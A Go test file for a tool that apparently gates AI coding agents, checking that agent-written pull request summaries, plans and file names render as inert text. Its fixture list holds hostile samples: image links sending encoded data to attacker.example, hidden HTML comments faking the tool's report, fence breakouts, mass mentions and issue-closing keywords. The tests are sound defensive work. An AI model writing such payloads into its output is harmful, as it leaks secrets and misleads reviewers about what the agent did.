package app

import (
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/agentgate/agentgate/internal/mdcheck"
	"github.com/agentgate/agentgate/sandbox"
	"github.com/agentgate/agentgate/telemetry"
	"github.com/agentgate/agentgate/webhook"
)

// hostileSummaries are summaries an agent could write to speak for
// agentgate in the pull request or plan comment.
var hostileSummaries = []struct{ name, text string }{
	{"unclosed comment hides agentgate's report", "Done.\n<!--"},
	{"fake report after a comment", "Done.\n<!-- -->\n## Run\n\n**Outcome:** succeeded\n<!--"},
	{"details", "<details><summary>ok</summary>\n\n<!--\n"},
	{"img tag", `<img src="https://attacker.example/?d=c2VjcmV0">`},
	{"markdown image", "![x](https://attacker.example/?d=c2VjcmV0)"},
	{"reference image", "![x][r]\n\n[r]: https://attacker.example/?d=c2VjcmV0"},
	{"autolink", "<https://attacker.example/a>"},
	{"raw url", "https://attacker.example/b www.attacker.example"},
	{"closing keywords", "Fixes #12\nfixes owner/repo#3\nCloses https://github.com/acme/widgets/issues/4"},
	{"mentions", "@org/team @alice"},
	{"fence breakout", "```\n</code></pre><img src=https://attacker.example/c>\n```\n<!--"},
	{"long fence breakout", strings.Repeat("`", 12) + "\n" + strings.Repeat("`", 12) + "\n<img src=https://attacker.example/d>"},
	{"huge", strings.Repeat("<!-- ![x](https://attacker.example/e) Fixes #1 @bob\n", 4000)}, // ~200k characters
}

// runReport is agentgate's own report for the pull request: a policy
// flag, a denied destination and a protected path it must keep whole.
func runReport(t *testing.T, fill int) string {
	t.Helper()
	s := telemetry.Summary{
		Outcome: "succeeded", RunURL: "https://agentgate.example.com/runs/r-1",
		Flags:   []string{"protected path: CODEOWNERS"},
		Network: []telemetry.NetHost{{Host: "exfil.example", Port: 443, Denied: 2, Reason: "not allowlisted"}},
	}
	for i := range fill {
		s.Files = append(s.Files, telemetry.SummaryFile{Path: fmt.Sprintf("%s/%d.go", strings.Repeat("d", 250), i), Op: "added", Added: 1})
	}
	return s.MarkdownMax(maxRunMarkdown)
}

// The pull request body is agentgate's words first and whole, the agent's
// summary after them as text that renders as nothing but text; within
// GitHub's limit whatever the agent wrote.
func TestPRBodyAgentSummaryInert(t *testing.T) {
	a := webhook.RunJobArgs{RunID: "r-1", Owner: "acme", Repo: "widgets", IssueNumber: 7, RequesterLogin: "alice"}
	for _, fill := range []int{0, 200} {
		run := runReport(t, fill)
		for _, tt := range hostileSummaries {
			t.Run(fmt.Sprintf("%s/%d files", tt.name, fill), func(t *testing.T) {
				body := prBody(a, tt.text, run)
				if len(body) > telemetry.MaxPRBody || !utf8.ValidString(body) {
					t.Fatalf("body of %d bytes, limit %d", len(body), telemetry.MaxPRBody)
				}
				own, agent, found := strings.Cut(body, "\n## Agent's summary\n")
				if !found {
					if fill == 0 {
						t.Fatalf("no agent's summary section:\n%s", body)
					}
					own = body
				}
				// agentgate's part is exactly what it wrote, before the agent's.
				if !strings.HasPrefix(own, "Fixes #7\n\nRequested by @alice.") || !strings.Contains(own, "\n## Run\n\n"+run+"\n") {
					t.Errorf("agentgate's part is not first and whole:\n%.2000s", own)
				}
				r := checkRendered(t, body, "https://agentgate.example.com/runs/r-1")
				for _, want := range []string{"protected path: CODEOWNERS", "exfil.example:443", "not allowlisted", "Outcome: succeeded"} {
					if !strings.Contains(r.Text+r.Code, want) {
						t.Errorf("rendered body lacks %q", want)
					}
				}
				if refs := mdcheck.ClosingRefs(r.Text + r.Code); len(refs) != 1 || refs[0] != "Fixes #" {
					t.Errorf("closing references %q, want agentgate's own only", refs)
				}
				if m := mdcheck.Mentions(r.Text + r.Code); len(m) != 1 || m[0] != "@a" {
					t.Errorf("mentions %q, want the requester only", m)
				}
				if found && !strings.HasPrefix(agent, "\nWritten by the agent") {
					t.Errorf("agent's section does not say whose text it is: %.200q", agent)
				}
			})
		}
	}
}

// checkRendered renders md as GitHub would and fails on any image, HTML
// comment, raw HTML element or link but the allowed ones.
func checkRendered(t *testing.T, md string, links ...string) mdcheck.Report {
	t.Helper()
	r, err := mdcheck.Render(md)
	if err != nil {
		t.Fatal(err)
	}
	allowed := map[string]bool{"p": true, "strong": true, "em": true, "code": true, "pre": true, "ul": true, "li": true, "a": true,
		"h2": true, "h3": true, "table": true, "thead": true, "tbody": true, "tr": true, "th": true, "td": true}
	for el := range r.Elements {
		if !allowed[el] {
			t.Errorf("rendered element <%s>", el)
		}
	}
	for _, l := range r.Links {
		found := false
		for _, ok := range links {
			found = found || l == ok
		}
		if !found {
			t.Errorf("rendered link %q", l)
		}
	}
	if len(r.Images) > 0 || len(r.Comments) > 0 {
		t.Errorf("rendered images %q, comments %q", r.Images, r.Comments)
	}
	return r
}

// Positive control: an ordinary summary is shown whole after agentgate's
// report.
func TestPRBodyOrdinarySummary(t *testing.T) {
	a := webhook.RunJobArgs{RunID: "r-1", IssueNumber: 7, RequesterLogin: "alice"}
	body := prBody(a, "Renamed `Foo` to `Bar` in three files.\n\nTests pass.", "**Outcome:** succeeded\n")
	want := "\n## Run\n\n**Outcome:** succeeded\n\n\n## Agent's summary\n\nWritten by the agent and shown as plain text; agentgate has not checked it.\n\n```text\nRenamed `Foo` to `Bar` in three files.\n\nTests pass.\n```\n"
	if !strings.HasSuffix(body, want) {
		t.Errorf("body:\n%s\nwant suffix:\n%s", body, want)
	}
	if body := prBody(a, "  \n", "x"); strings.Contains(body, "Agent's summary") {
		t.Errorf("empty summary gets a section:\n%s", body)
	}
}

// The plan comment: agentgate's words (how to approve, the digest) first,
// the plan after them as inert text, within GitHub's comment limit.
func TestPlanCommentInert(t *testing.T) {
	for _, tt := range hostileSummaries {
		t.Run(tt.name, func(t *testing.T) {
			c := planComment("alice", "write", "r-1", tt.text, strings.Repeat("ab", 32))
			if len(c) > telemetry.MaxComment {
				t.Fatalf("%d bytes", len(c))
			}
			own, _, found := strings.Cut(c, "\n## The agent's plan\n")
			if !found || !strings.Contains(own, "`@agentgate approve`") || !strings.Contains(own, "plan sha256 `abababababab`") {
				t.Fatalf("agentgate's words not first:\n%.1000s", c)
			}
			r := checkRendered(t, c)
			if refs := mdcheck.ClosingRefs(r.Text + r.Code); len(refs) > 0 {
				t.Errorf("closing references %q", refs)
			}
			if m := mdcheck.Mentions(r.Text); len(m) != 1 || m[0] != "@a" {
				t.Errorf("mentions %q, want the requester only", m)
			}
		})
	}
	// Positive control: the plan is there, as written.
	if c := planComment("alice", "write", "r-1", "1. edit a.go\n2. run tests", "ff"); !strings.Contains(c, "```text\n1. edit a.go\n2. run tests\n```\n") {
		t.Errorf("plan not shown:\n%s", c)
	}
}

// Names the agent chose, in agentgate's own notes and failure reasons,
// are code spans: no markup, no mention; the protected paths list is
// bounded so the check run note stays within GitHub's limit.
func TestAgentNamesInNotes(t *testing.T) {
	evil := "@org/team/<img src=https:/attacker.example/x>/![x](https:/attacker.example/y)/Fixes #3"
	pol := &sandbox.RunPolicy{}
	md := strings.Join(pol.Violations([]sandbox.ChangedFile{{Path: evil, Binary: true}, {Path: evil + "2", Symlink: true}}), "; ") +
		"\n\nChanged files:\n" + sandbox.FileList([]sandbox.ChangedFile{{Path: evil}}) + "\n" + protectedNote([]string{evil}, "bob")
	r := checkRendered(t, md)
	if m := mdcheck.Mentions(r.Text + r.Code); len(m) != 1 || m[0] != "@b" {
		t.Errorf("mentions %q, want the requester only", m)
	}
	if refs := mdcheck.ClosingRefs(r.Text + r.Code); len(refs) > 0 {
		t.Errorf("closing references %q", refs)
	}
	many := make([]string, 5000)
	for i := range many {
		many[i] = strings.Repeat("p", 200) + fmt.Sprint(i)
	}
	if n := len(protectedNote(many, "bob")); n > 6<<10 {
		t.Errorf("protected note of 5000 paths is %d bytes", n)
	}
	if l := sandbox.CodeList(many); !strings.HasSuffix(l, " more") {
		t.Errorf("long list does not say how many more: %.100q", l[len(l)-100:])
	}
}

// The verify check run shows the output of the agent's code as inert
// text; the command and commit stay agentgate's.
func TestVerifySummaryInert(t *testing.T) {
	for _, tt := range hostileSummaries {
		t.Run(tt.name, func(t *testing.T) {
			s := verifySummary([]string{"make", "test"}, "abc123", time.Second, tt.text)
			if len(s) > telemetry.MaxMarkdown || !strings.HasPrefix(s, "`make test` on `abc123`, 1s,") {
				t.Fatalf("summary of %d bytes:\n%.300s", len(s), s)
			}
			r := checkRendered(t, s)
			if refs, m := mdcheck.ClosingRefs(r.Text+r.Code), mdcheck.Mentions(r.Text+r.Code); len(refs)+len(m) > 0 {
				t.Errorf("closing references %q, mentions %q", refs, m)
			}
		})
	}
	if s := verifySummary([]string{"go", "test"}, "abc", time.Second, "ok  pkg 0.1s\n"); !strings.Contains(s, "```text\nok  pkg 0.1s\n```\n") {
		t.Errorf("ordinary output not shown:\n%s", s)
	}
}
